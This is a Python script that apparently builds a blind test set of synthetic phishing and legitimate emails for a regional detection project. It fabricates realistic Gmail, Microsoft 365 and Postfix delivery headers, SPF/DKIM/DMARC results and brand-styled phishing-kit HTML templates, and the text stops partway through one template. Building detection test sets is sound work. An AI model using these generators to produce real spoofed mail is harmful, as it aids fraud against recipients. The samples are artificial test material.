"""Blind set 18: phishing and legitimate mail received by consumers and small businesses in the
Nordics, Central-Eastern Europe, Turkey and the Gulf, 2023-2026.

The messages are as the recipients' own mail servers stored them (Gmail, Outlook.com, Microsoft
365 tenants, Telia, Telenor, Loopia, Domeneshop, one.com, Elisa, WP/Onet/Interia/home.pl,
Seznam/Centrum, Freemail/Citromail, Etisalat...) and later handed to a regional CERT's public
reporting mailbox; none is wrapped as a forwarded attachment.  Languages are the ones the
recipients read: Swedish, Norwegian, Danish, Finnish, Polish, Czech, Romanian, Hungarian,
Turkish, Arabic (UAE and Saudi Arabia) and English.

Attacks (50): BankID/MitID/Vipps/Swish lures; Skatteverket, Skatteetaten, SKAT, Vero, ANAF, NAV
and e-Devlet refunds; PostNord, Posten, DAO, Posti, InPost, Česká pošta, Fan Courier, Magyar
Posta, Yurtiçi, Emirates Post, Aramex and SMSA customs-fee kits; bank lures (Handelsbanken,
Swedbank, OP, PKO BP, ČSOB, OTP, Garanti BBVA, Al Rajhi) including HTML-attachment harvesters,
a Google Calendar invite and callback numbers; e-government (mObywatel, Datová schránka,
Ügyfélkapu+, Absher, UAE PASS); tolls (Autopass, e-TOLL, e-známka, HU-GO, Salik); marketplace
buyer-has-paid scams (Blocket, FINN, OLX, Sahibinden); Microsoft 365 lures (a genuine SharePoint
share from a compromised accountancy tenant, an SVG voicemail); a Google Forms ANAF lure; thread
hijack and IBAN-change supplier fraud, CEO and gift-card fraud; PDFs with QR codes or links; and
one password-protected ZIP holding a shortcut dropper.

Legitimate (25): the same brands done right - PostNord, InPost, Posti, Magyar Posta, Yurtiçi and
Aramex tracking notices, Nordea/PKO/Emirates NBD notifications, e-Doręczenia, Datová schránka and
Digital Post inbox notices, Allegro and Blocket notices, a Vipps receipt, a Salik statement, a
Microsoft account alert, a regional Mailchimp newsletter and a bank marketing mailing, plus
business mail with invoice PDFs and personal mail between friends.

Run:  .venv/bin/python samples/tools/build_blind18_samples.py
"""

from __future__ import annotations

import base64
import email
import hashlib
import html as htmlmod
import io
import re
import struct
import sys
import zlib
from datetime import datetime, timedelta
from email import policy
from email.utils import format_datetime
from pathlib import Path
from zoneinfo import ZoneInfo

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
from mime import Leaf, Multi, attachment, message, text  # noqa: E402
import files  # noqa: E402

ROOT = HERE.parents[1]
OUT = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind18_manifest.txt"

SAMPLES: list[tuple[str, str, bytes, str]] = []


# ----------------------------------------------------------------------------- deterministic bits

def hx(seed: str, n: int = 16) -> str:
    out = ""
    i = 0
    while len(out) < n:
        out += hashlib.sha256(f"{seed}#{i}".encode()).hexdigest()
        i += 1
    return out[:n]


def b64(seed: str, n: int) -> str:
    raw = b"".join(hashlib.sha512(f"{seed}/{i}".encode()).digest() for i in range(n // 64 + 2))
    return base64.b64encode(raw).decode()[:n]


def alnum(seed: str, n: int) -> str:
    return re.sub(r"[^A-Za-z0-9]", "", b64(seed, n * 2))[:n]


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hx(seed, 12), 16) % (hi - lo + 1)


def uid(seed: str) -> str:
    h = hx(seed, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def T(s: str, tz: str) -> datetime:
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S").replace(tzinfo=ZoneInfo(tz))


def fd(t: datetime, tz: str | None = None) -> str:
    return format_datetime(t.astimezone(ZoneInfo(tz)) if tz else t)


def fdz(t: datetime, tz: str) -> str:
    tt = t.astimezone(ZoneInfo(tz))
    return f"{format_datetime(tt)} ({tt.tzname()})"


# ----------------------------------------------------------------------------- header encoding

def _q(b: int) -> str:
    c = chr(b)
    if c.isascii() and (c.isalnum() or c in "!*+-/"):
        return c
    if c == " ":
        return "_"
    return f"={b:02X}"


def enc(s: str, mode: str = "B") -> str:
    if all(ord(c) < 128 for c in s):
        return s
    words, cur = [], ""
    limit = 45 if mode == "B" else 20
    for ch in s:
        if len((cur + ch).encode()) > limit:
            words.append(cur)
            cur = ch
        else:
            cur += ch
    words.append(cur)
    if mode == "B":
        parts = [f"=?UTF-8?B?{base64.b64encode(w.encode()).decode()}?=" for w in words]
    else:
        parts = ["=?utf-8?Q?" + "".join(_q(b) for b in w.encode()) + "?=" for w in words]
    return "\n ".join(parts)


def addr(name: str, mail: str, mode: str = "B") -> str:
    if not name:
        return mail
    if all(ord(c) < 128 for c in name):
        if re.search(r"[(),.:;<>@\[\]\"]", name):
            return f'"{name}" <{mail}>'
        return f"{name} <{mail}>"
    return f"{enc(name, mode)} <{mail}>"


# ----------------------------------------------------------------------------- message ids

def mid_gmail(seed: str) -> str:
    return f"<CA{alnum(seed + 'g1', 10)}{b64(seed + 'g2', 30).replace('/', '_')}+{alnum(seed + 'g3', 10)}@mail.gmail.com>"


def mid_outlook(seed: str, box: str, region: str) -> str:
    return f"<{box}{hx(seed + 'mid', 24).upper()}@{box}.{region}.prod.outlook.com>"


def mid_php(seed: str, host: str) -> str:
    return f"<{alnum(seed + 'php', 32)}@{host}>"


def mid_ses(seed: str, region: str = "eu-west-1") -> str:
    h = hx(seed + "ses", 48)
    return f"<0102018{h[:9]}-{h[9:17]}-{h[17:21]}-{h[21:25]}-{h[25:29]}-{h[29:41]}-000000@{region}.amazonses.com>"


def mid_uuid(seed: str, host: str) -> str:
    return f"<{uid(seed)}@{host}>"


def boundary(seed: str, style: str) -> str:
    h = hx(seed + style, 40)
    if style == "gmail":
        return "0000000000" + h[:18]
    if style == "outlook":
        return f"_000_{h[:30].upper()}_"
    if style == "outlook_rel":
        return f"_004_{h[:30].upper()}_"
    if style == "outlook_mix":
        return f"_005_{h[:30].upper()}_"
    if style == "php":
        return f"b1_{alnum(seed + 'bd', 43)}"
    if style == "java":
        return f"----=_Part_{num(seed, 100000, 999999)}_{num(seed + 'x', 10000000, 99999999)}.{num(seed + 'y', 1690000000000, 1760000000000)}"
    if style == "tb":
        return "------------" + alnum(seed + "tb", 24)
    if style == "apple":
        return f"Apple-Mail={uid(seed).upper()}"
    if style == "mc":
        return f"_----------=_MCPart_{num(seed, 100000000, 999999999)}"
    if style == "sg":
        return h[:64]
    return f"=_{h[:32]}"


# ----------------------------------------------------------------------------- receiving side

def _spf_word(spf: str) -> str:
    return {"pass": "pass", "fail": "fail", "softfail": "softfail", "none": "none", "neutral": "neutral"}[spf]


def rx_gmail(s: dict) -> list[str]:
    t1 = s["t"] + timedelta(seconds=s["lag"])
    t2 = t1 + timedelta(seconds=1)
    n = s["name"]
    mf, ip, dom = s["mailfrom"], s["ip"], s["fromdom"]
    mfd = mf.split("@")[-1]
    tz = "America/Los_Angeles"
    parts = []
    if s["dkim"]:
        d, sel = s["dkim"]
        if s["dkim_res"] == "pass":
            parts.append(f"dkim=pass header.i=@{d} header.s={sel} header.b={s['bsig'][:8]}")
        else:
            parts.append(f"dkim=neutral (body hash did not verify) header.i=@{d} header.s={sel} header.b={s['bsig'][:8]}")
    spf_text = {
        "pass": f"(google.com: domain of {mf} designates {ip} as permitted sender)",
        "fail": f"(google.com: domain of {mf} does not designate {ip} as permitted sender)",
        "softfail": f"(google.com: domain of transitioning {mf} does not designate {ip} as permitted sender)",
        "neutral": f"(google.com: {ip} is neither permitted nor denied by best guess record for domain of {mf})",
        "none": f"(google.com: {mfd} does not designate permitted sender hosts)",
    }[s["spf"]]
    parts.append(f"spf={s['spf']} {spf_text} smtp.mailfrom={mf}")
    if s["dmarc"] != "none":
        p = s["p"]
        dis = "NONE" if s["dmarc"] == "pass" else ("QUARANTINE" if p in ("QUARANTINE", "REJECT") else "NONE")
        parts.append(f"dmarc={s['dmarc']} (p={p} sp={p} dis={dis}) header.from={dom}")
    ar = "mx.google.com;\n       " + ";\n       ".join(parts)
    sid = f"{hx(n + 'gs1', 13)}-{hx(n + 'gs2', 12)}si{num(n, 1000000, 9999999)}{alnum(n + 'gs3', 3).lower()}.{num(n + 'k', 10, 999)}.{t1.astimezone(ZoneInfo('UTC')).strftime('%Y.%m.%d.%H.%M.%S')}"
    v6 = f"2002:a05:{hx(n + 'a', 4)}:{hx(n + 'b', 4)}:b0:{hx(n + 'c', 3)}:{hx(n + 'd', 4)}:{hx(n + 'e', 4)}"
    out = [
        f"Delivered-To: {s['rcpt']}",
        f"Received: by {v6} with SMTP id {alnum(n + 'sm', 3).lower()}{num(n + 'sm', 1000000, 9999999)}{alnum(n + 'sm2', 3).lower()};\n        {fdz(t2, tz)}",
        f"X-Google-Smtp-Source: AGHT+IE{b64(n + 'xgs', 61)}",
        f"X-Received: by {v6} with SMTP id {alnum(n + 'xr', 3).lower()}{num(n + 'xr', 1000000, 9999999)}mr{num(n + 'xr2', 1000000, 9999999)}{alnum(n + 'xr3', 3).lower()}.{num(n + 'xr4', 10, 99)}.{int(t2.timestamp() * 1000) + num(n + 'xr5', 0, 999)};\n        {fdz(t2, tz)}",
        f"ARC-Seal: i=1; a=rsa-sha256; t={int(t1.timestamp())}; cv=none;\n        d=google.com; s=arc-20240605;\n        b={b64(n + 'arcs', 70)}\n         {b64(n + 'arcs2', 70)}==",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=google.com; s=arc-20240605;\n        h=to:subject:message-id:date:from:mime-version:dkim-signature;\n        bh={b64(n + 'arcbh', 43)}=;\n        fh={b64(n + 'arcfh', 43)}=;\n        b={b64(n + 'arcb', 70)}\n         {b64(n + 'arcb2', 70)}==",
        f"ARC-Authentication-Results: i=1; {ar}",
        f"Return-Path: <{mf}>",
        f"Received: from {s['helo']} ({s['rdns']}. [{ip}])\n        by mx.google.com with ESMTPS id {sid}\n        for <{s['rcpt']}>\n        (version=TLS1_3 cipher=TLS_AES_256_GCM_SHA384 bits=256/256);\n        {fdz(t1, tz)}",
        f"Received-SPF: {s['spf']} {spf_text} client-ip={ip};",
        f"Authentication-Results: {ar}",
    ]
    return out


def _ms_ar(s: dict) -> tuple[str, str]:
    mfd = s["mailfrom"].split("@")[-1]
    ip, dom = s["ip"], s["fromdom"]
    spf = f"spf={s['spf']} (sender IP is {ip})\n smtp.mailfrom={mfd}"
    if s["dkim"]:
        d = s["dkim"][0]
        dk = (f"dkim=pass (signature was verified)\n header.d={d}" if s["dkim_res"] == "pass"
              else f"dkim=fail (body hash did not verify)\n header.d={d}")
    else:
        dk = "dkim=none (message not signed)\n header.d=none"
    if s["dmarc"] == "pass":
        dm, ca = f"dmarc=pass action=none\n header.from={dom}", "compauth=pass reason=100"
    elif s["dmarc"] == "fail":
        act = {"REJECT": "oreject", "QUARANTINE": "quarantine"}.get(s["p"], "none")
        dm, ca = f"dmarc=fail action={act}\n header.from={dom}", "compauth=fail reason=000"
    elif s["dmarc"] == "bestguesspass":
        dm, ca = f"dmarc=bestguesspass action=none\n header.from={dom}", "compauth=pass reason=109"
    else:
        dm = f"dmarc=none action=none\n header.from={dom}"
        ca = "compauth=pass reason=102" if s["spf"] == "pass" else "compauth=softpass reason=201"
    rspf = {"pass": "Pass", "fail": "Fail", "softfail": "SoftFail", "none": "None", "neutral": "Neutral"}[s["spf"]]
    how = {"pass": f"domain of {mfd} designates {ip} as permitted sender",
           "fail": f"domain of {mfd} does not designate {ip} as permitted sender",
           "softfail": f"domain of transitioning {mfd} discourages use of {ip} as permitted sender",
           "none": f"{mfd} does not designate permitted sender hosts",
           "neutral": f"{ip} is neither permitted nor denied by domain of {mfd}"}[s["spf"]]
    ar = f"Authentication-Results: {spf}; {dk};{dm};{ca}"
    rs = (f"Received-SPF: {rspf} (protection.outlook.com: {how})\n receiver=protection.outlook.com; client-ip={ip};\n"
          f" helo={s['helo']}; pr=C")
    return ar, rs


MS_PREFIX = {"eur": ["AM8", "DB9", "AS8", "VI1", "DU0", "GV1", "PA4", "AM9", "DB8", "AS4"],
             "apc": ["SG2", "TYZ", "SEZ", "KL1", "PS2"], "nam": ["BN0", "CH3", "SJ0", "DM6", "MN2", "BY5"]}


def msprefix(seed: str, region: str) -> str:
    options = MS_PREFIX[region[:3]]
    return options[num(seed + "pfx", 0, len(options) - 1)]


def rx_ms(s: dict) -> list[str]:
    n = s["name"]
    region = s["rx"][1]
    reg = region[:3].upper()
    t1 = s["t"] + timedelta(seconds=s["lag"])
    t2 = t1 + timedelta(seconds=1)
    t3 = t2 + timedelta(seconds=1)
    box = f"{msprefix(n, region)}PR{num(n + 'b', 1, 9):02d}MB{num(n + 'c', 1000, 9999)}"
    box2 = f"{msprefix(n + 'd', region)}PR{num(n + 'e', 1, 9):02d}CA{num(n + 'f', 1000, 9999)}"
    pepf = f"{msprefix(n + 'g', region)}PEPF0000{hx(n + 'h', 5).upper()}"
    build = f"15.20.{num(n + 'bu', 7000, 8999)}.{num(n + 'bu2', 10, 40)}"
    v6 = lambda k: f"2603:10a6:{hx(n + k, 3)}:{hx(n + k + '1', 2)}::{hx(n + k + '2', 2)}"
    ar, rs = _ms_ar(s)
    tz = "UTC"
    out = [
        f"Received: from {box}.{region}.prod.outlook.com ({v6('x')}) by\n {box2.replace('CA', 'MB')}.{region}.prod.outlook.com with HTTPS; {fd(t3, tz)}",
        f"Received: from {box2}.{region}.prod.outlook.com ({v6('y')}) by\n {box}.{region}.prod.outlook.com ({v6('z')}) with Microsoft SMTP Server\n"
        f" (version=TLS1_2, cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build}; {fd(t2, tz)}",
        f"Received: from {pepf}.{region}.prod.outlook.com\n ({v6('w')}) by {box2}.outlook.office365.com\n ({v6('v')}) with Microsoft SMTP Server (version=TLS1_3,\n"
        f" cipher=TLS_AES_256_GCM_SHA384) id {build} via Frontend Transport; {fd(t2, tz)}",
        ar,
        rs,
        f"Received: from {s['helo']} ({s['ip']}) by\n {pepf}.mail.protection.outlook.com (10.167.{num(n + 'i', 1, 254)}.{num(n + 'j', 1, 254)}) with Microsoft SMTP\n"
        f" Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build}\n via Frontend Transport; {fd(t1, tz)}",
    ]
    s["trailer"] = [
        f"Return-Path: {s['mailfrom']}",
        f"X-MS-Exchange-Organization-ExpirationStartTime: {t1.astimezone(ZoneInfo('UTC')).strftime('%d %b %Y %H:%M:%S.%f')[:-3]}0\n (UTC)",
        "X-MS-Exchange-Organization-ExpirationStartTimeReason: OriginalSubmit",
        "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
        "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit",
        f"X-MS-Exchange-Organization-Network-Message-Id:\n {uid(n + 'nmid')}",
        "X-EOPAttributedMessage: 0",
        "X-EOPTenantAttributedMessage: " + uid(n + "tenant") + ":0",
        "X-MS-Exchange-Organization-MessageDirectionality: Incoming",
        f"X-MS-PublicTrafficType: Email",
        "X-MS-Exchange-Organization-AuthSource:\n " + f"{pepf}.{region}.prod.outlook.com",
        "X-MS-Exchange-Organization-AuthAs: Anonymous",
        f"X-MS-Exchange-Organization-SCL: {s['scl']}",
        f"X-Microsoft-Antispam: BCL:{s['bcl']};",
        f"X-MS-Exchange-CrossTenant-OriginalArrivalTime: {t1.astimezone(ZoneInfo('UTC')).strftime('%d %b %Y %H:%M:%S.%f')[:-3]}0\n (UTC)",
        "X-MS-Exchange-Transport-EndToEndLatency: 00:00:0" + str(num(n + "lat", 1, 9)) + "." + str(num(n + "lat2", 1000000, 9999999)),
    ]
    return out


def rx_pf(s: dict) -> list[str]:
    _, mx, store, tz, kind = s["rx"]
    n = s["name"]
    t1 = s["t"] + timedelta(seconds=s["lag"])
    t2 = t1 + timedelta(seconds=1)
    mf, ip, dom = s["mailfrom"], s["ip"], s["fromdom"]
    mfd = mf.split("@")[-1]
    parts = []
    if s["dkim"]:
        d, sel = s["dkim"]
        if s["dkim_res"] == "pass":
            parts.append(f"dkim=pass header.d={d} header.s={sel} header.b={s['bsig'][:8]}")
        else:
            parts.append(f'dkim=fail ("body hash did not verify") header.d={d} header.s={sel} header.b={s["bsig"][:8]}')
    else:
        parts.append("dkim=none")
    short = mx.split(".")[0]
    spf_text = {
        "pass": f"({short}: domain of {mf} designates {ip} as permitted sender)",
        "fail": f"({short}: domain of {mf} does not designate {ip} as permitted sender)",
        "softfail": f"({short}: domain of {mf} does not designate {ip} as permitted sender)",
        "neutral": f"({short}: {ip} is neither permitted nor denied by domain of {mf})",
        "none": f"({short}: domain of {mf} has no SPF policy when checking {ip})",
    }[s["spf"]]
    parts.append(f"spf={s['spf']} {spf_text} smtp.mailfrom={mfd}")
    if s["dmarc"] == "pass":
        parts.append(f"dmarc=pass (policy={s['p'].lower()}) header.from={dom}")
    elif s["dmarc"] == "fail":
        parts.append(f'dmarc=fail reason="SPF not aligned (relaxed), No valid DKIM" header.from={dom} (policy={s["p"].lower()})')
    else:
        parts.append("dmarc=none")
    qid = hx(n + "qid", 10).upper()
    out = [
        f"Return-Path: <{mf}>",
        f"Delivered-To: {s['rcpt']}",
        f"Received: from {store}\n\tby {store} with LMTP\n\tid {b64(n + 'lmtp', 22).replace('/', 'x').replace('+', 'y')}\n\t(envelope-from <{mf}>)\n\tfor <{s['rcpt']}>; {fdz(t2, tz)}",
        f"X-Rspamd-Server: {mx.split('.')[0]}",
        f"X-Rspamd-Queue-Id: {qid}",
        f"X-Spamd-Result: default: False [{s['spam']:.2f} / 15.00]",
        f"X-Rspamd-Action: {'add header' if s['spam'] >= 6 else 'no action'}",
    ]
    if s["spam"] >= 6:
        out.append("X-Spam: Yes")
    out += [
        f"Authentication-Results: {mx};\n\t" + ";\n\t".join(parts),
        f"Received: from {s['helo']} ({s['rdns']} [{ip}])\n\t(using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256 bits))\n\t(No client certificate requested)\n"
        f"\tby {mx} ({kind}) with ESMTPS id {qid}\n\tfor <{s['rcpt']}>; {fdz(t1, tz)}",
    ]
    return out


def dkim_sig(s: dict, hlist: str) -> str:
    d, sel = s["dkim"]
    b = s["bsig"]
    folded = "\n\t ".join(b[i:i + 72] for i in range(0, len(b), 72))
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={sel}; t={int(s['t'].timestamp())};\n"
            f"\th={hlist};\n\tbh={b64(s['name'] + 'bh', 43)}=;\n\tb={folded}")


# ----------------------------------------------------------------------------- assembling

def add(cat, kind, slug, desc, *, rx, rcpt, t, ip, helo, mailfrom, head, body, rdns=None,
        spf="pass", dkim=None, dkim_res="pass", dmarc="none", p="NONE", hops=(), lag=3,
        hlist="from:to:subject:date:message-id:mime-version:content-type", spam=None, scl=None, bcl=0):
    name = f"b18-{kind}-{slug}"
    unfolded = re.sub(r"\n[ \t]+", " ", "\n".join(head))
    m = re.search(r"^From:.*?([\w.+-]+@[\w.-]+)>?\s*$", unfolded, re.M)
    fromdom = m.group(1).split("@")[1].lower()
    s = dict(name=name, rx=rx, rcpt=rcpt, t=t, ip=ip, helo=helo, rdns=rdns or helo, mailfrom=mailfrom,
             spf=spf, dkim=dkim, dkim_res=dkim_res, dmarc=dmarc, p=p, lag=lag, fromdom=fromdom,
             bsig=b64(name + "dkimb", 342) + "==", trailer=[],
             spam=spam if spam is not None else (1.2 if kind != "phish" else 4.8),
             scl=scl if scl is not None else (1 if kind != "phish" else 5), bcl=bcl)
    if rx[0] == "gmail":
        top = rx_gmail(s)
    elif rx[0] == "ms":
        top = rx_ms(s)
    else:
        top = rx_pf(s)
    lines = top + list(hops)
    if dkim:
        lines.append(dkim_sig(s, hlist))
    lines += [h.replace("%DATE%", fd(t)) for h in head]
    lines += s["trailer"]
    if not any(h.lower().startswith("mime-version:") for h in lines):
        lines.append("MIME-Version: 1.0")
    data = message("\n".join(lines), body)
    SAMPLES.append((cat, name, data, desc))


# ----------------------------------------------------------------------------- sender-side hops

def hop_exim(server: str, ip: str, client: str, t: datetime, rcpt: str, env: str, tz: str, auth: bool = True) -> str:
    n = server + str(t)
    eid = f"1{alnum(n + 'e1', 5)}-{alnum(n + 'e2', 6)}-{alnum(n + 'e3', 2)}"
    how = "esmtpsa  (TLS1.2) tls TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384" if auth else "esmtp"
    return (f"Received: from [{ip}] (port={num(n, 40000, 65000)} helo={client})\n\tby {server} with {how}\n\t(Exim 4.96.2)\n"
            f"\t(envelope-from <{env}>)\n\tid {eid}\n\tfor {rcpt};\n\t{fd(t, tz)}")


def hop_local(server: str, t: datetime, tz: str, uid_: int = 33) -> str:
    return f"Received: by {server} (Postfix, from userid {uid_})\n\tid {hx(server + str(t), 11).upper()}; {fdz(t, tz)}"


def hop_pf(server: str, client: str, ip: str, t: datetime, tz: str, auth: bool = True) -> str:
    a = "\n\t(Authenticated sender: submission)" if auth else ""
    return (f"Received: from {client} (unknown [{ip}]){a}\n\tby {server} (Postfix) with ESMTPSA id {hx(server + client + str(t), 10).upper()};\n"
            f"\t{fdz(t, tz)}")


def hops_o365_out(seed: str, region: str, t: datetime) -> tuple[list[str], str, str, str]:
    """Outbound Microsoft 365 hops; returns (hops, box, helo, ip)."""
    reg = region[:3].upper()
    box = f"{msprefix(seed, region)}PR{num(seed + 'o', 1, 9):02d}MB{num(seed + 'p', 1000, 9999)}"
    build = f"15.20.{num(seed + 'bo', 7000, 8999)}.{num(seed + 'bo2', 10, 40)}"
    fe80 = f"fe80::{hx(seed + 'f1', 4)}:{hx(seed + 'f2', 4)}:{hx(seed + 'f3', 4)}:{hx(seed + 'f4', 4)}"
    hops = [f"Received: from {box}.{region}.prod.outlook.com\n ([{fe80}]) by {box}.{region}.prod.outlook.com\n"
            f" ([{fe80}%{num(seed + 'pc', 3, 7)}]) with mapi id {build}; {fd(t, 'UTC')}"]
    site = {"eur": "EUR0" + str(num(seed + 's', 1, 5)) + "-" + ["DB8", "AM6", "VI1", "HE1"][num(seed + 's2', 0, 3)],
            "apc": "APC01-PSA", "nam": "NAM1" + str(num(seed + 's', 0, 2)) + "-BN8"}.get(region[:3], "EUR05-DB8")
    helo = f"{site}-obe.outbound.protection.outlook.com"
    ip = f"40.107.{num(seed + 'ip1', 1, 250)}.{num(seed + 'ip2', 1, 250)}"
    return hops, box, helo, ip


def outlook_head(seed: str, box: str, region: str, frm: str, to: str, subject: str, lang: str,
                 cc: str | None = None, refs: list[str] | None = None, attach: bool = False, topic: str | None = None) -> list[str]:
    h = [f"From: {frm}", f"To: {to}"]
    if cc:
        h.append(f"CC: {cc}")
    h.append(f"Subject: {enc(subject)}")
    h.append(f"Thread-Topic: {enc(topic or re.sub(r'^(RE|SV|VS|AW|Re|Odp|YNT|FW): ', '', subject))}")
    h.append(f"Thread-Index: AQH{b64(seed + 'ti', 25)}")
    h.append("Date: %DATE%")
    h.append(f"Message-ID: {mid_outlook(seed, box, region)}")
    if refs:
        h.append("References: " + "\n ".join(refs))
        h.append(f"In-Reply-To: {refs[-1]}")
    h += [f"Accept-Language: {lang}, en-US", f"Content-Language: {lang}",
          "X-MS-Has-Attach:" + (" yes" if attach else ""), "X-MS-TNEF-Correlator:", "MIME-Version: 1.0"]
    return h


def gmail_head(seed: str, frm: str, to: str, subject: str, refs: list[str] | None = None, cc: str | None = None,
               t: datetime | None = None) -> list[str]:
    ms = int(t.timestamp() * 1000) + num(seed + "ms", 300, 999) if t else num(seed + "r8", 1700000000000, 1790000000000)
    h = [f"X-Gm-Message-State: AOJu0Y{b64(seed + 'gms', 58)}",
         f"X-Google-Smtp-Source: AGHT+IH{b64(seed + 'gss', 54)}",
         f"X-Received: by 2002:a17:906:{hx(seed + 'r', 4)}:b0:{hx(seed + 'r2', 3)}:{hx(seed + 'r3', 4)}:{hx(seed + 'r4', 4)} with SMTP id"
         f" {alnum(seed + 'r5', 3).lower()}{num(seed, 1000000, 9999999)}-{hx(seed + 'r6', 9)}.{num(seed + 'r7', 10, 99)}.{ms};\n        %DATE%",
         "MIME-Version: 1.0"]
    if refs:
        h += ["References: " + "\n ".join(refs), f"In-Reply-To: {refs[-1]}"]
    h += [f"From: {frm}", "Date: %DATE%", f"Message-ID: {mid_gmail(seed)}", f"Subject: {enc(subject)}", f"To: {to}"]
    if cc:
        h.append(f"Cc: {cc}")
    return h


GMAIL_HL = "to:subject:message-id:date:from:mime-version:from:to:cc:subject\n\t :date:message-id:reply-to"
MS_HL = "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"


def google_ip(seed: str) -> tuple[str, str]:
    last = num(seed, 41, 73)
    return f"209.85.220.{last}", f"mail-sor-f{last}.google.com"


# ----------------------------------------------------------------------------- bodies

def strip(h: str) -> str:
    h = re.sub(r"<br\s*/?>", "\n", h)
    h = re.sub(r"<a [^>]*href=\"([^\"]+)\"[^>]*>(.*?)</a>", r"\2 (\1)", h)
    h = re.sub(r"<[^>]+>", "", h)
    return htmlmod.unescape(h)


def plain(title: str, paras: list[str], button: str | None = None, url: str | None = None, footer: list[str] = ()) -> str:
    out = [title, ""] if title else []
    for p in paras:
        out += [strip(p), ""]
    if button:
        out += [f"{button}: {url}", ""]
    for f in footer:
        out += [strip(f)]
    return "\n".join(out).strip() + "\n"


def esp_html(lang, brand, color, logo, title, paras, button=None, url=None, footer=(), pre="", rtl=False, links=(), pixel=None):
    d = ' dir="rtl"' if rtl else ""
    al = "right" if rtl else "left"
    font = "Tahoma,Arial,sans-serif" if rtl else "Arial,Helvetica,sans-serif"
    btn = ""
    if button:
        btn = (f'<tr><td align="center" style="padding:22px 0 26px 0"><table role="presentation" cellspacing="0" cellpadding="0" border="0"><tr>'
               f'<td bgcolor="{color}" style="border-radius:4px"><a href="{url}" target="_blank" style="display:inline-block;padding:13px 30px;'
               f'font-family:{font};font-size:16px;color:#ffffff;text-decoration:none;font-weight:bold">{button}</a></td></tr></table></td></tr>')
    ps = "".join(f'<tr><td style="padding:0 0 14px 0;font-family:{font};font-size:15px;line-height:22px;color:#222222;text-align:{al}">{x}</td></tr>\n' for x in paras)
    fl = " &nbsp;|&nbsp; ".join(f'<a href="{u}" target="_blank" style="color:#777777;text-decoration:underline">{tx}</a>' for tx, u in links)
    foot = "".join(f'<p style="margin:0 0 8px 0">{f}</p>' for f in footer)
    px = f'<img src="{pixel}" width="1" height="1" alt="" style="display:block;border:0">' if pixel else ""
    return f"""<!DOCTYPE html>
<html lang="{lang}"{d}>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<title>{title}</title>
</head>
<body style="margin:0;padding:0;background-color:#f2f2f2">
<div style="display:none;font-size:1px;line-height:1px;max-height:0;max-width:0;opacity:0;overflow:hidden">{pre}</div>
<table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0" bgcolor="#f2f2f2"><tr><td align="center" style="padding:20px 10px">
<table role="presentation" width="600" cellspacing="0" cellpadding="0" border="0" bgcolor="#ffffff" style="max-width:600px;width:100%">
<tr><td style="padding:20px 30px;border-bottom:3px solid {color};text-align:{al}"><img src="{logo}" alt="{brand}" width="140" style="display:inline-block;border:0"></td></tr>
<tr><td style="padding:28px 30px 6px 30px"><table role="presentation" width="100%" cellspacing="0" cellpadding="0" border="0">
<tr><td style="padding:0 0 18px 0;font-family:{font};font-size:22px;font-weight:bold;color:#111111;text-align:{al}">{title}</td></tr>
{ps}{btn}
</table></td></tr>
<tr><td style="padding:18px 30px;background-color:#fafafa;font-family:{font};font-size:12px;line-height:17px;color:#777777;text-align:{al}">{foot}<p style="margin:8px 0 0 0">{fl}</p></td></tr>
</table>{px}
</td></tr></table>
</body>
</html>
"""


def kit_html(lang, brand, color, title, paras, button, url, footer="", style=0, rtl=False, logo=None):
    d = ' dir="rtl"' if rtl else ""
    ps = "\n".join(f"<p>{x}</p>" for x in paras)
    if style == 0:
        head = f'<div style="background:{color};padding:16px 20px;color:#fff;font-size:22px;font-weight:700">{brand}</div>' if not logo else \
            f'<div style="padding:16px 20px;border-bottom:4px solid {color}"><img src="{logo}" alt="{brand}" height="36"></div>'
        return f"""<html{d}><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width"></head>
<body style="font-family:'Segoe UI',Arial,sans-serif;background:#f6f6f6;margin:0;padding:20px">
<div style="max-width:560px;margin:0 auto;background:#ffffff;border:1px solid #e2e2e2">
{head}
<div style="padding:24px 26px;font-size:15px;line-height:1.55;color:#222">
<h2 style="font-size:19px;margin:0 0 16px 0">{title}</h2>
{ps}
<p style="text-align:center;margin:28px 0"><a href="{url}" style="background:{color};color:#ffffff;padding:13px 28px;border-radius:6px;text-decoration:none;font-weight:600;display:inline-block">{button}</a></p>
</div>
<div style="padding:14px 26px;font-size:11px;color:#999;border-top:1px solid #eee">{footer}</div>
</div>
</body></html>
"""
    if style == 1:
        return f"""<html{d}>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
</head>
<body>
<center>
<table width="520" border="0" cellpadding="0" cellspacing="0" style="border:1px solid #cccccc">
<tr><td bgcolor="{color}" height="60" style="padding-left:15px"><font face="Arial" size="5" color="#ffffff"><b>{brand}</b></font></td></tr>
<tr><td style="padding:20px"><font face="Arial" size="2" color="#333333">
<b>{title}</b><br><br>
{"<br><br>".join(paras)}
<br><br>
<center><a href="{url}" style="background-color:{color};color:#FFFFFF;padding:10px 22px;text-decoration:none;font-weight:bold"><font color="#ffffff">{button}</font></a></center>
<br><br>
</font></td></tr>
<tr><td bgcolor="#eeeeee" style="padding:10px"><font face="Arial" size="1" color="#888888">{footer}</font></td></tr>
</table>
</center>
</body>
</html>
"""
    # style 2: minimal, text-like
    return f"""<div{d} style="font-family:Calibri,Arial,sans-serif;font-size:11pt;color:#000">
<p><b>{title}</b></p>
{ps}
